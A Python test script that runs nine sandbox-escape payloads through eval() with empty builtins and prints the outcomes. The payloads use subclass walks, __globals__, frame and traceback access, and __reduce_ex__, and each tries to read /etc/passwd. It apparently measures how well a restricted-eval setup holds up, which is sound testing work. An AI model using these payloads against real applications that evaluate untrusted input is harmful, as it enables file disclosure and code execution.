PAYLOADS = {
    "class walk": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['open']('/etc/passwd').read()",
    "function globals": "(lambda: 0).__globals__['real_open']('/etc/passwd').read()",
    "generator": "(x for x in [1]).gi_frame.f_builtins['open']('/etc/passwd')",
    "exception": "raise_and_walk()",
    "decorator": "given.__globals__['__builtins__'].open('/etc/passwd')",
    "type": "type('X', (), {'__init__': lambda self: None}).__init__.__globals__['real_open']('/etc/passwd')",
    "str method": "''.join.__self__.__class__.__mro__[1].__subclasses__().__len__() > 50",
    "builtin self": "given_builtin.__self__.open('/etc/passwd')",
    "reduce": "().__reduce_ex__(2)[0].__globals__['__builtins__']['open']('/etc/passwd')",
}


def given():
    return None


def raise_and_walk():
    try:
        raise ValueError
    except ValueError as error:
        return error.__traceback__.tb_frame.f_globals["real_open"]("/etc/passwd")


for name, payload in PAYLOADS.items():
    scope = {"__builtins__": {}, "given": given, "given_builtin": len, "real_open": open, "raise_and_walk": raise_and_walk}
    try:
        print(f"{name}: {eval(payload, scope)!r}")
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'code', '')}".rstrip())
